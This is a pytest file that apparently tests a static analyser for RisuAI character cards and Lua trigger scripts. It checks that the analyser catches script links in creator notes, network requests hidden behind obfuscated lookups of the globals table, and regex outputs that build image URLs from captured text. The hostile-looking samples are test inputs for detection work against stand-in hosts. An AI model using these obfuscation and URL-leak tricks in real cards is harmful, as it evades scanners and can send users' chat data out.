"""A tenth pass over the readers, the checks and the catalog (stop 64): each test reproduces
a defect found by reading RisuAI's source or by fuzzing, and fails before its fix.

- A card's creator notes (``creator_notes``): RisuAI shows them above the chat and on the
  character's page as HTML (``CreatorQuote.svelte`` -> ``MultiLangDisplay`` ->
  ``ParseMarkdown`` with no character: Markdown and HTML, no CBS), but the analyser never
  read them: an address they load, or script they carry, went unseen.
- ``package.loaded["_G"]["request"](u)`` (an index ``["_G"]``, then an index of it): the
  table of globals twice bracketed was read as a dynamic lookup (RA112) and no request.
- A listener's kind given as a constant, a branch chain, a loop's variable or folded
  (``"edit" .. "Display"``) made the hook, but not the kind of the calls in its body: a
  call an ``editDisplay`` listener is refused (RA106) went unreported unless the kind was
  a literal.
"""

from __future__ import annotations

from typing import Any

import pytest

from risutools.analysis import analyze
from risutools.analysis.lualex import globals_fields
from risutools.analysis.model import Analysis
from risutools.formats.card import card_module_data, has_active_content
from risutools.formats.model import Module
from risutools.projection.identity import content_identity


def card(**data: Any) -> dict[str, Any]:
    return {"spec": "chara_card_v3", "data": {"name": "C", **data}}


def analysed(c: dict[str, Any]) -> Analysis:
    return analyze(Module({"id": "c", **card_module_data(c)}))


def rules(a: Analysis) -> set[str]:
    return {f.rule for f in a.findings}


def hosts(a: Analysis) -> set[str]:
    return {f.name for f in a.url_hosts}


# ---- a card's creator notes ---------------------------------------------------------------

def test_the_creator_notes_html_is_read() -> None:
    a = analysed(card(creator_notes='# `en`\nhi <a href="javascript:alert(1)">x</a>'))
    assert "RA303" in rules(a)
    assert any("card.creator_notes" in f.evidence for f in a.findings if f.rule == "RA303")
    a = analysed(card(creator_notes='<img src="https://notes.example/p.png">'))
    assert "notes.example" in hosts(a)


def test_the_creator_notes_cbs_is_never_evaluated() -> None:
    # shown as written: a setvar in them writes nothing, and is no active content
    c = card(creator_notes="{{setvar::k::1}} <b>hello</b>")
    a = analysed(c)
    assert not a.state and not a.computed_state
    assert not has_active_content(card_module_data(c))
    assert not rules(a)


def test_the_creator_notes_are_not_the_cards_identity() -> None:
    # (a re-ingest of a card whose notes were added or edited keeps its component's id)
    ids = {content_identity(Module({"id": "c", **card_module_data(card(**extra))},
                                   component_type="character"))
           for extra in ({}, {"creator_notes": "hello"}, {"creator_notes": "<b>hi</b>"})}
    assert len(ids) == 1 and None not in ids
    other = content_identity(Module({"id": "c", **card_module_data(card(first_mes="x"))},
                                    component_type="character"))
    assert other not in ids


def test_plain_creator_notes_give_nothing() -> None:
    a = analysed(card(creator_notes="# `en`\nSharp suits.\n# `ko`\n날카로운 슈트."))
    assert not rules(a) and not hosts(a)


# ---- the table of globals through ["_G"] ----------------------------------------------------

def lua(code: str) -> Analysis:
    return analyze(Module({"name": "M", "id": "m", "lowLevelAccess": True, "trigger": [{
        "comment": "", "type": "start", "conditions": [], "lowLevelAccess": False,
        "effect": [{"type": "triggerlua", "code": code}]}]}))


@pytest.mark.parametrize("code", [
    'package.loaded["_G"]["request"]("https://h.example/x")',
    "package.loaded['_G']['request']('https://h.example/x')",
    'local p = package.loaded\np["_G"]["request"]("https://h.example/x")',
    'package.loaded[ "\\95G" ]\n["request"]("https://h.example/x")',
    'package.loaded["_G"]["_G"]["request"]("https://h.example/x")',
])
def test_a_request_through_a_bracketed_globals_table(code: str) -> None:
    a = lua(code)
    assert "request" in {f.name for f in a.host_apis}
    assert {f.name for f in a.network_hosts} == {"h.example"}


def test_globals_fields_keeps_lengths_lines_strings_and_constructors() -> None:
    code = 'local s = \'x["_G"]\'\nlocal t = {["_G"] = 1}\np[\n"_G"\n]["k"]()'
    got = globals_fields(code)
    assert len(got) == len(code) and got.count("\n") == code.count("\n")
    assert got.splitlines()[:2] == code.splitlines()[:2]  # a string, a table's key
    assert got.splitlines()[2].startswith("p._G")
    assert globals_fields("print(t.x)") == "print(t.x)"


# ---- a listener's kind, however written, given to the calls in it -------------------------

def plain_lua(code: str) -> Analysis:
    return analyze(Module({"name": "M", "id": "m", "trigger": [{
        "comment": "", "type": "start", "conditions": [],
        "effect": [{"type": "triggerlua", "code": code}]}]}))


_BODY = 'function(id, d) addChat(id, "user", "x") return d end'


@pytest.mark.parametrize("head", [
    'listenEdit("editDisplay", ',
    'listenEdit("edit" .. "Display", ',
    'listenEdit(("editDisplay"), ',
    'local K = "editDisplay"\nlistenEdit(K, ',
    'local C = {k = "editDisplay"}\nlistenEdit(C.k, ',
    'local K\nif x then K = "editDisplay" else K = "editOutput" end\nlistenEdit(K, ',
])
def test_a_call_refused_in_a_display_listener_whatever_its_kind_is_written(head: str) -> None:
    assert "RA106" in rules(plain_lua(head + _BODY + ")"))


def test_a_named_handler_of_a_listener_whose_kind_is_a_constant() -> None:
    code = ('local K = "editDisplay"\nlocal function h(id, d) addChat(id, "user", "x") '
            'return d end\nlistenEdit(K, h)')
    assert "RA106" in rules(plain_lua(code))
    assert "RA106" not in rules(plain_lua(code.replace("editDisplay", "editOutput")))


def test_the_same_calls_in_a_loop_over_kinds_and_through_pcall() -> None:
    code = ('for _, k in ipairs({"editOutput", "editDisplay"}) do\n'
            '  listenEdit(k, function(id, d) pcall(addChat, id, "user", "x") return d end)\n'
            'end')
    assert "RA106" in rules(plain_lua(code))


@pytest.mark.parametrize("head", [
    'listenEdit("editOutput", ',
    'local K = "editOutput"\nlistenEdit(K, ',
    'listenEdit("edit" .. "Input", ',
])
def test_no_display_refusal_in_another_listener(head: str) -> None:
    assert "RA106" not in rules(plain_lua(head + _BODY + ")"))


# ---- constants folded from expressions: read alike with and without the skip path ---------

@pytest.mark.parametrize("code", [
    'local W = "cbs-v1"\nlocal t = {wire = W, kind = "k"}\nsetChatVar(id, t.wire, 1)',
    'local K = "req"\nlocal n = K .. "uest"\n_G[n]("https://h.example/")',
    'local a = (1 .. "x")\nlocal b = (x + 1) * 2\nlocal c = ("a"):rep(2)\ngetChatVar(id, c)',
    'local s = string.char(114, 101)\nlocal u = ( "p" ) .. s\ngetChatVar(id, u)',
])
def test_folded_constants_are_read_alike_with_and_without_skipping(code: str) -> None:
    from risutools.analysis.lua import scan_lua

    keep = frozenset({"request", "getChatVar", "setChatVar"})
    fast, slow = scan_lua(code, keep), scan_lua(code, keep, skip=False)
    assert fast.constants == slow.constants
    assert [(c.name, c.line) for c in fast.calls] == [(c.name, c.line) for c in slow.calls]


# ---- $$ in a regex replacement is a $ written as itself ------------------------------------

def test_a_doubled_dollar_is_no_replacement() -> None:
    def regex_out(out: str) -> Analysis:
        return analyze(Module({"name": "R", "id": "r", "regex": [
            {"comment": "r", "in": "(.+)", "out": out, "type": "editdisplay", "flag": "g"}]}))

    assert "RA305" not in rules(regex_out('<img src="https://h.example/p.png?price=$$1">'))
    assert "RA305" in rules(regex_out('<img src="https://h.example/p.png?q=$$$1">'))
    assert "RA305" in rules(regex_out('<img src="https://h.example/p.png?q=$1">'))
